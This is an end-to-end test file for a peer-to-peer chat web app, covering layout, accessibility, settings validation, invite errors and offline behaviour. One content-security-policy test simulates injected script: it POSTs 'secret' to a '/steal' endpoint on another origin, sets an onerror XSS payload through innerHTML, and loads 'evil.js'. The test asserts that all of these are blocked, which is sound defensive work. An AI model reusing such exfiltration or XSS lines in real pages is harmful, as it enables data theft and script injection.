// The app as a PWA under the server's real headers: layout at 360 px and desktop (screenshots saved
// as artifacts), accessibility scan, keyboard use, settings validation, no-WebRTC page, and an
// offline reload served by the service worker.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { buildHashOf } from "../scripts/build-hash.mjs";
import {
  artifact,
  AXE_SOURCE,
  chromiumPage,
  connectPair,
  createRoom,
  freePort,
  launchChromium,
  startServer,
  waitConnected,
  WEB_DIST,
  wrapPage,
} from "./harness.mjs";

const PHONE = { width: 360, height: 740 };
const DESKTOP = { width: 1366, height: 860 };

async function axeSerious(p, label) {
  await p.eval(AXE_SOURCE); // evaluated by the driver: the page's CSP (no inline script) still holds for the app
  const violations = await p.eval(async () => {
    const result = await window.axe.run(document, { resultTypes: ["violations"] });
    return result.violations
      .filter((v) => v.impact === "serious" || v.impact === "critical")
      .map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(" ")).join(", ")}`);
  });
  assert.deepEqual(violations, [], `${label}: serious/critical accessibility violations`);
}

/** Every selector is rendered, non-empty and fully inside the viewport's width. */
async function assertVisibleWithin(p, selectors, width) {
  const boxes = await p.eval(
    (sels) =>
      sels.map((s) => {
        const el = document.querySelector(s);
        if (!el) return { s, missing: true };
        const r = el.getBoundingClientRect();
        const style = getComputedStyle(el);
        return { s, left: r.left, right: r.right, w: r.width, h: r.height, hidden: style.visibility === "hidden" || style.display === "none" };
      }),
    selectors,
  );
  for (const b of boxes) {
    assert.ok(!b.missing && !b.hidden && b.w > 0 && b.h > 0, `${b.s} is not visible`);
    assert.ok(b.left >= 0 && b.right <= width + 0.5, `${b.s} overflows the ${width}px viewport (${b.left}..${b.right})`);
  }
  const scrollWidth = await p.eval(() => document.documentElement.scrollWidth);
  assert.ok(scrollWidth <= width, `page scrolls sideways: ${scrollWidth} > ${width}`);
}

describe("PWA, layout and accessibility", { timeout: 300_000 }, () => {
  let server, browser;

  before(async () => {
    // A short EXPIRE so that joining a host who is gone fails fast (the retries still run). The operator
    // lets the app also use this server under the name localhost (another origin than 127.0.0.1).
    const port = await freePort();
    server = await startServer(
      {
        GhostChat__Signaling__ExpireTimeout: "00:00:01",
        GhostChat__SecurityHeaders__ConnectSources__0: `http://localhost:${port}`,
        GhostChat__SecurityHeaders__ConnectSources__1: `ws://localhost:${port}`,
      },
      port,
    );
    browser = await launchChromium();
  });

  after(async () => {
    await browser?.close();
    await server?.stop();
  });

  // The build hash (docs/security.md, "A compromised web origin"): what the app shows is the hash of
  // the files the server serves, computed from outside by scripts/build-hash.mjs, and of the build folder.
  it("buildHash_ShownInSettings_SameAsTheServedFilesAndTheBuildFolder", async () => {
    const p = await chromiumPage(browser);
    await p.goto(server.url + "/");
    await p.click("#open-settings");
    await p.waitFor(() => /^[0-9a-f]{64}$/.test(document.querySelector("#app-build").textContent));
    const shown = await p.eval(() => document.querySelector("#app-build").textContent);
    assert.equal(shown, await buildHashOf(server.url));
    assert.equal(shown, await buildHashOf(WEB_DIST));
    await p.context.close();
  });

  it("server_HeadersAndManifest_AsExpected", async () => {
    const index = await fetch(server.url + "/");
    assert.equal(index.status, 200);
    assert.equal(index.headers.get("cache-control"), "no-cache");
    const csp = index.headers.get("content-security-policy");
    assert.match(csp, /script-src 'self'/);
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
    const html = await index.text();
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)[^>]*>/, "inline script in index.html");
    assert.doesNotMatch(html, /\sstyle=|<style/, "inline style in index.html");
    const asset = html.match(/\/assets\/[^"]+\.js/)[0];
    const js = await fetch(server.url + asset);
    assert.match(js.headers.get("cache-control"), /immutable/);
    // Nothing test-only ships: the hooks live in the e2e test build (web/dist-e2e) alone.
    const source = await js.text();
    assert.doesNotMatch(source, /__ghostchat|test=1/, "test hooks in the shipped bundle");
    const sw = await fetch(server.url + "/sw.js");
    assert.equal(sw.headers.get("cache-control"), "no-cache");
    const manifest = await (await fetch(server.url + "/manifest.webmanifest")).json();
    assert.equal(manifest.name, "GhostChat");
    for (const icon of manifest.icons) assert.equal((await fetch(server.url + icon.src)).status, 200, icon.src);
    const iceResponse = await fetch(server.url + "/api/ice", { headers: { Origin: "http://app.example" } });
    assert.equal(iceResponse.headers.get("access-control-allow-origin"), "http://app.example");
    assert.equal(iceResponse.headers.get("cache-control"), "no-store");
    // Contract C2 shape: no providers configured and no embedded TURN here, so nothing to hand out;
    // the operator's file limit (GhostChat:Files:MaxBytes) at its default, 4 GiB.
    assert.deepEqual(await iceResponse.json(), { iceServers: [], providers: [], expiresAt: null, relayOnly: false, maxFileBytes: 4294967296 });
  });

  it("phone360_HomeAndChat_ControlsVisible_ScreenshotsSaved", async () => {
    const host = await chromiumPage(browser, PHONE);
    const guest = await chromiumPage(browser, PHONE);
    await host.goto(server.url + "/");
    await host.waitFor(() => document.body.dataset.view === "home");
    await assertVisibleWithin(host, ["#new-room", "#open-settings", "#home-title"], PHONE.width);
    await host.screenshot(artifact("web-360-home.png"));
    await connectPair(host, guest, server.url);
    await host.eval(() => {
      const c = document.querySelector("#composer");
      c.value = "A message long enough to wrap on a small phone screen, to see the bubbles.";
      c.dispatchEvent(new Event("input", { bubbles: true }));
      c.form.requestSubmit();
    });
    await guest.waitFor(() => document.querySelectorAll('#messages li[data-direction="in"]').length === 1);
    await assertVisibleWithin(guest, ["#composer", "#send", "#panic", "#self-destruct", "#leave", "#messages", "#status"], PHONE.width);
    await guest.screenshot(artifact("web-360-chat.png"));
    // Every hit target at least 44 px high.
    const small = await guest.eval(() =>
      ["#send", "#panic", "#leave", "#self-destruct", "#open-settings", "#hide-ip"]
        .map((s) => [s, (s === "#hide-ip" ? document.querySelector(s).closest("label") : document.querySelector(s)).getBoundingClientRect().height])
        .filter(([, h]) => h < 44),
    );
    assert.deepEqual(small, []);
    // Focusing a field must not zoom the page (phones zoom into fields under 16 px), nor a double tap.
    const fonts = await guest.eval(() =>
      ["#composer", "#my-name", "#self-destruct"].map((s) => parseFloat(getComputedStyle(document.querySelector(s)).fontSize)),
    );
    assert.ok(
      fonts.every((f) => f >= 16),
      `field font sizes ${fonts}`,
    );
    assert.equal(await guest.eval(() => getComputedStyle(document.documentElement).touchAction), "manipulation");
    // The on-screen keyboard takes the lower half: the page keeps the messages and the composer,
    // above the keyboard.
    await guest.page.setViewportSize({ width: PHONE.width, height: 360 });
    await guest.waitFor(
      () => getComputedStyle(document.documentElement).getPropertyValue("--visible-height") === "360px" && document.body.dataset.compact === "true",
    );
    const bottoms = await guest.eval(() => ["#composer", "#send", "#messages"].map((s) => document.querySelector(s).getBoundingClientRect().bottom));
    for (const b of bottoms) assert.ok(b > 0 && b <= 360.5, `composer row ends at ${b}px, under the keyboard`);
    // The message list keeps most of what is left: the room's buttons step aside until the keyboard closes.
    const listHeight = await guest.eval(() => document.querySelector("#messages").getBoundingClientRect().height);
    assert.ok(listHeight >= 150, `the messages get ${listHeight}px of 360`);
    assert.equal(await guest.eval(() => getComputedStyle(document.querySelector(".chat-tools")).display), "none");
    await guest.screenshot(artifact("web-360-keyboard.png"));
    await host.context.close();
    await guest.context.close();
  });

  it("desktop_InviteAndChat_ControlsVisible_ScreenshotsSaved", async () => {
    const host = await chromiumPage(browser, DESKTOP);
    const guest = await chromiumPage(browser, DESKTOP);
    await createRoom(host, server.url);
    await assertVisibleWithin(host, ["#invite-link", "#copy-link", "#qr"], DESKTOP.width);
    const qrPainted = await host.eval(() => {
      const c = document.querySelector("#qr");
      const data = c.getContext("2d").getImageData(0, 0, c.width, c.height).data;
      let dark = 0;
      for (let i = 0; i < data.length; i += 4) if (data[i] < 64) dark++;
      return dark;
    });
    assert.ok(qrPainted > 1000, "QR code not drawn");
    await host.screenshot(artifact("web-desktop-invite.png"));
    await guest.goto(await host.eval(() => document.querySelector("#invite-link").value));
    await guest.waitFor(() => document.body.dataset.phase === "connected");
    await host.waitFor(() => document.body.dataset.phase === "connected");
    await assertVisibleWithin(host, ["#composer", "#send", "#panic", "#self-destruct", "#leave", "#messages"], DESKTOP.width);
    await host.screenshot(artifact("web-desktop-chat.png"));
    await host.context.close();
    await guest.context.close();
  });

  it("axe_HomeInviteChatSettings_NoSeriousOrCritical", async () => {
    const host = await chromiumPage(browser);
    const guest = await chromiumPage(browser);
    await host.goto(server.url + "/");
    await host.waitFor(() => document.body.dataset.view === "home");
    await axeSerious(host, "home");
    await host.click("#open-settings");
    await host.waitFor(() => document.querySelector("#settings-dialog").open);
    await axeSerious(host, "settings");
    await host.click("#settings-close");
    await connectPair(host, guest, server.url).catch(async () => {
      throw new Error("pair failed");
    });
    await axeSerious(host, "chat host");
    await axeSerious(guest, "chat guest");
    await host.context.close();
    await guest.context.close();
  });

  it("phoneWithTouch_EveryView_FitsTheWidth_AxeClean", async () => {
    // Phone emulation with touch (360 px): home, settings, invite book, 1:1 room, group room, an
    // error, diagnostics — each fits the width and has no serious or critical axe finding.
    const phone = async () => {
      const context = await browser.newContext({ viewport: PHONE, isMobile: true, hasTouch: true });
      return { ...wrapPage(await context.newPage(), "playwright"), context };
    };
    const host = await phone();
    const guest = await phone();
    await host.goto(server.url + "/");
    await host.waitFor(() => document.body.dataset.view === "home");
    await assertVisibleWithin(host, ["#new-room", "#new-group", "#hide-ip", "#open-settings"], PHONE.width);
    await axeSerious(host, "phone home");
    await host.click("#open-settings");
    await host.waitFor(() => document.querySelector("#settings-dialog").open);
    await assertVisibleWithin(host, ["#set-custom", "#settings-close"], PHONE.width);
    await axeSerious(host, "phone settings");
    await host.click("#settings-close");
    const link = await createRoom(host, server.url);
    await assertVisibleWithin(host, ["#invite-link", "#copy-link", "#qr", "#new-invite", "#end-room"], PHONE.width);
    await axeSerious(host, "phone invite book");
    await guest.goto(link);
    await Promise.all([waitConnected(host), waitConnected(guest)]);
    await assertVisibleWithin(guest, ["#composer", "#send", "#notify", "#leave", "#panic"], PHONE.width);
    await axeSerious(guest, "phone 1:1 room");
    await host.context.close();
    const groupHost = await phone(); // a fresh browser: the 1:1 host's page would resume its room
    const groupLink = await createRoom(groupHost, server.url, "group");
    await guest.goto(groupLink);
    await Promise.all([waitConnected(groupHost), waitConnected(guest)]);
    await guest.eval(() => document.querySelector("#members-details").setAttribute("open", ""));
    await assertVisibleWithin(guest, ["#members", "#my-name", "#composer", "#send"], PHONE.width);
    await axeSerious(guest, "phone group room");
    await guest.goto(`${server.url}/#join=2.<b>x</b>`);
    await guest.waitFor(() => document.body.dataset.view === "error");
    await assertVisibleWithin(guest, ["#error-title", "#error-home"], PHONE.width);
    await axeSerious(guest, "phone error");
    await guest.goto(`${server.url}/diagnostics.html`);
    await guest.waitFor(() => document.readyState === "complete" && document.querySelector("main") !== null);
    await assertVisibleWithin(guest, ["main"], PHONE.width);
    await axeSerious(guest, "phone diagnostics");
    await groupHost.context.close();
    await guest.context.close();
  });

  it("keyboard_TabToNewRoom_EnterCreatesRoom_CopyAnnounced", async () => {
    const p = await chromiumPage(browser);
    await p.context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: server.url });
    await p.goto(server.url + "/");
    await p.waitFor(() => document.body.dataset.view === "home");
    let focused = "";
    for (let i = 0; i < 10 && focused !== "new-room"; i++) {
      await p.press("Tab");
      focused = await p.eval(() => document.activeElement?.id ?? "");
    }
    assert.equal(focused, "new-room");
    await p.press("Enter");
    await p.waitFor(() => document.body.dataset.view === "invite" && document.querySelector("#invite-link").value.includes("#join="));
    await p.page.focus("#copy-link");
    await p.press("Enter");
    await p.waitFor(() => document.querySelector("#copy-feedback").textContent === "Copied");
    const clip = await p.eval(() => navigator.clipboard.readText());
    assert.equal(clip, await p.eval(() => document.querySelector("#invite-link").value));
    await p.context.close();
  });

  it("settings_InvalidFields_ErrorsShown_ValidSavedLocally", async () => {
    const p = await chromiumPage(browser);
    await p.goto(server.url + "/");
    await p.click("#open-settings");
    await p.page.check("#set-custom");
    await p.page.fill("#set-host", "not a host");
    await p.page.fill("#set-port", "99999");
    await p.page.fill("#set-ice", "turn:turn.example.org:3478");
    await p.click("#settings-save");
    const errs = await p.eval(() => ["host", "port", "iceServers"].map((f) => document.querySelector(`#err-${f}`).textContent.length > 0));
    assert.deepEqual(errs, [true, true, true]);
    assert.equal(await p.eval(() => localStorage.getItem("ghostchat.settings.v1")), null);
    // A server the site's policy admits (the operator listed localhost:<port>, see before()).
    await p.page.fill("#set-host", "localhost");
    await p.page.fill("#set-port", String(server.port));
    await p.page.uncheck("#set-secure");
    await p.page.fill("#set-ice", "stun:stun.example.org:3478");
    await p.click("#settings-save");
    await p.waitFor(() => document.querySelector("#settings-feedback").textContent === "Settings saved");
    const saved = JSON.parse(await p.eval(() => localStorage.getItem("ghostchat.settings.v1")));
    assert.equal(saved.host, "localhost");
    assert.equal(saved.port, server.port);
    await p.context.close();
  });

  it("settings_CustomServerSaved_UsedForTheNextRoom", async () => {
    const host = await chromiumPage(browser);
    const guest = await chromiumPage(browser);
    await host.goto(server.url + "/");
    await host.click("#open-settings");
    await host.page.check("#set-custom");
    // "localhost" is another origin than the page's 127.0.0.1: the requests show the setting is used.
    await host.page.fill("#set-host", "localhost");
    await host.page.fill("#set-port", String(server.port));
    await host.page.fill("#set-path", "/");
    await host.page.fill("#set-key", "peerjs");
    await host.page.uncheck("#set-secure");
    await host.page.fill("#set-ice", "");
    await host.click("#settings-save");
    await host.waitFor(() => document.querySelector("#settings-feedback").textContent === "Settings saved");
    await host.click("#settings-close");
    // The page reads the saved settings on load, as a user coming back later would.
    await host.page.reload();
    const requests = [];
    host.page.on("request", (r) => requests.push(new URL(r.url()).host + new URL(r.url()).pathname));
    host.page.on("websocket", (ws) => requests.push(new URL(ws.url()).host + new URL(ws.url()).pathname));
    await connectPair(host, guest, server.url);
    const custom = `localhost:${server.port}`;
    assert.ok(requests.includes(custom + "/api/ice") && requests.includes(custom + "/peerjs"), `requests: ${requests.join(", ")}`);
    assert.deepEqual(host.errors, []);
    await host.context.close();
    await guest.context.close();
  });

  // The policy's connect-src admits only this server (and the origins its operator listed): a custom
  // server it does not admit could never be reached, and the settings say so instead of saving it.
  it("settings_ServerTheSitePolicyBlocks_ExplainedNotSaved", async () => {
    const p = await chromiumPage(browser);
    await p.goto(server.url + "/");
    await p.click("#open-settings");
    assert.match(await p.eval(() => document.querySelector("#settings-dialog p").textContent), /security policy/);
    await p.page.check("#set-custom");
    await p.page.fill("#set-host", "signal.example.org");
    await p.page.fill("#set-port", "443");
    await p.page.check("#set-secure");
    await p.click("#settings-save");
    await p.waitFor(() => document.querySelector("#err-host").textContent !== "");
    assert.match(
      await p.eval(() => document.querySelector("#err-host").textContent),
      /security policy does not let the app connect to https:\/\/signal\.example\.org:443, wss:\/\/signal\.example\.org:443.*operator/,
    );
    assert.equal(await p.eval(() => document.querySelector("#set-host").getAttribute("aria-invalid")), "true");
    assert.equal(await p.eval(() => localStorage.getItem("ghostchat.settings.v1")), null);
    // A server saved before the operator narrowed the policy: the dialog says so as soon as it opens.
    await p.eval(() =>
      localStorage.setItem(
        "ghostchat.settings.v1",
        JSON.stringify({ custom: true, host: "old.example.org", port: 443, path: "/", key: "peerjs", secure: true, iceServers: [] }),
      ),
    );
    await p.page.reload();
    await p.click("#open-settings");
    await p.waitFor(() => document.querySelector("#err-host").textContent !== "");
    assert.match(await p.eval(() => document.querySelector("#err-host").textContent), /does not let the app connect to https:\/\/old\.example\.org:443/);
    await p.context.close();
  });

  // Attack (issue 15): script that got into the page (a bug, a hostile extension of the data) sends
  // what it read to a server of its choosing, or turns a string into markup or script. The CSP blocks
  // both: connect-src is this server only, and Trusted Types refuse strings at every script sink.
  it("csp_OtherOriginAndStringSinks_Blocked_AppStillWorks", async () => {
    const p = await chromiumPage(browser);
    await p.goto(server.url + "/");
    await p.waitFor(() => navigator.serviceWorker.controller !== null); // the one sink the app uses, admitted
    const other = `http://127.0.0.1:${await freePort()}/steal`;
    const r = await p.eval(async (url) => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
      const attempt = async (f) => {
        try {
          await f();
          return "allowed";
        } catch (e) {
          return e.name;
        }
      };
      const results = {
        fetch: await attempt(() => fetch(url, { method: "POST", body: "secret" })),
        webSocket: await attempt(
          () =>
            new Promise((resolve, reject) => {
              const ws = new window.WebSocket(url.replace("http", "ws"));
              ws.onopen = resolve;
              ws.onerror = () => reject(new Error("blocked"));
            }),
        ),
        innerHTML: await attempt(() => (document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>")),
        scriptSrc: await attempt(() => (document.createElement("script").src = "/assets/evil.js")),
        otherServiceWorker: await attempt(() => navigator.serviceWorker.register("/evil.js")),
        // Our own sink still works: the app's policy admits its service worker.
        ownServiceWorker: await attempt(() => navigator.serviceWorker.register("/sw.js", { scope: "/" })),
      };
      await new Promise((res) => setTimeout(res, 200)); // violation events are queued
      return { results, violations };
    }, other);
    assert.equal(r.results.fetch, "TypeError");
    assert.notEqual(r.results.webSocket, "allowed");
    assert.equal(r.results.innerHTML, "TypeError");
    assert.equal(r.results.scriptSrc, "TypeError");
    assert.equal(r.results.otherServiceWorker, "TypeError");
    assert.equal(r.results.ownServiceWorker, "allowed");
    assert.ok(r.violations.includes("connect-src"), `violations: ${r.violations}`);
    assert.ok(r.violations.includes("require-trusted-types-for"), `violations: ${r.violations}`);
    await p.context.close();
  });

  // The server refuses the socket ("Invalid key provided"), which the client reports as a server
  // error like an unreachable server, so the app retries and then points at the settings.
  it("settings_WrongKey_ThreeAttemptsThenAdvice", async () => {
    const p = await chromiumPage(browser);
    await p.goto(server.url + "/");
    await p.eval(
      (port) =>
        localStorage.setItem(
          "ghostchat.settings.v1",
          JSON.stringify({ custom: true, host: "127.0.0.1", port, path: "/", key: "wrongkey", secure: false, iceServers: [] }),
        ),
      server.port,
    );
    await p.page.reload();
    await p.click("#new-room");
    await p.waitFor(() => document.body.dataset.view === "error");
    assert.match(await p.eval(() => document.querySelector("#error-body").textContent), /did not answer.*server settings/);
    assert.equal(await p.eval(() => performance.getEntriesByName("ghostchat:signaling").length), 3);
    await p.context.close();
  });

  it("join_HostGone_ThreeAttemptsThenPlainExplanation", async () => {
    const p = await chromiumPage(browser);
    const expires = Math.floor(Date.now() / 1000) + 3600;
    await p.goto(
      `${server.url}/#join=2.nobody-home-42.roomroomroomroom.inviteinvite.AAAAAAAAAAAAAAAAAAAAAA.${expires}.KKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKK`,
    );
    await p.waitFor(() => document.body.dataset.view === "error", undefined, 90_000);
    assert.match(await p.eval(() => document.querySelector("#error-body").textContent), /friend's browser did not answer/);
    const phases = await p.eval(() => performance.getEntriesByType("mark").map((m) => m.name));
    assert.deepEqual(phases.filter((n) => n === "ghostchat:connecting").length, 3);
    assert.deepEqual(phases.filter((n) => n === "ghostchat:connecting-retry").length, 2);
    await p.context.close();
  });

  it("join_BadOrExpiredLink_ExplainedWithoutConnecting", async () => {
    const p = await chromiumPage(browser);
    await p.goto(`${server.url}/#join=2.host.roomroomroomroom.inviteinvite.AAAAAAAAAAAAAAAAAAAAAA.1000.KKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKKK`);
    await p.waitFor(() => document.body.dataset.view === "error");
    assert.match(await p.eval(() => document.querySelector("#error-body").textContent), /expired/);
    // The fragment leaves the address bar once read, valid or not.
    assert.equal(await p.eval(() => location.hash), "");
    await p.goto(`${server.url}/#join=2.<b>x</b>`);
    await p.waitFor(() => /not a valid GhostChat invite/.test(document.querySelector("#error-body").textContent));
    assert.equal(await p.eval(() => location.hash), "");
    // A link made before invites named the host's key: "ask for a new one", not "broken".
    await p.goto(`${server.url}/#join=1.host.roomroomroomroom.inviteinvite.AAAAAAAAAAAAAAAAAAAAAA.9999999999`);
    await p.waitFor(() => document.querySelector("#view-error").dataset.kind === "invite-outdated");
    assert.match(await p.eval(() => document.querySelector("#error-body").textContent), /Ask the person who sent it for a new link/);
    assert.equal(await p.eval(() => performance.getEntriesByName("ghostchat:signaling").length), 0);
    await p.context.close();
  });

  it("noWebRtc_ClearPage", async () => {
    const p = await chromiumPage(browser);
    await p.context.addInitScript(() => {
      delete window.RTCPeerConnection;
      delete window.webkitRTCPeerConnection;
    });
    await p.goto(server.url + "/");
    await p.waitFor(() => document.body.dataset.view === "nowebrtc");
    const text = await p.eval(() => document.querySelector("#view-nowebrtc").textContent);
    assert.match(text, /needs WebRTC/);
    assert.equal(await p.eval(() => document.querySelector("#view-home").hidden), true);
    await p.context.close();
  });

  it("offline_Reload_ServiceWorkerShowsAppShellAndHonestState", async () => {
    const p = await chromiumPage(browser);
    await p.goto(server.url + "/");
    await p.waitFor(() => navigator.serviceWorker.controller !== null);
    await p.context.setOffline(true);
    await p.page.reload({ waitUntil: "load" });
    await p.waitFor(() => document.body.dataset.view === "home" && !document.querySelector("#offline").hidden);
    assert.match(await p.eval(() => document.querySelector("#status").textContent), /offline/i);
    await p.screenshot(artifact("web-offline.png"));
    // Trying anyway fails with a plain explanation, after the retries.
    await p.click("#new-room");
    await p.waitFor(() => document.body.dataset.view === "error");
    assert.match(await p.eval(() => document.querySelector("#error-body").textContent), /server did not answer/);
    await p.context.setOffline(false);
    await p.context.close();
  });
});
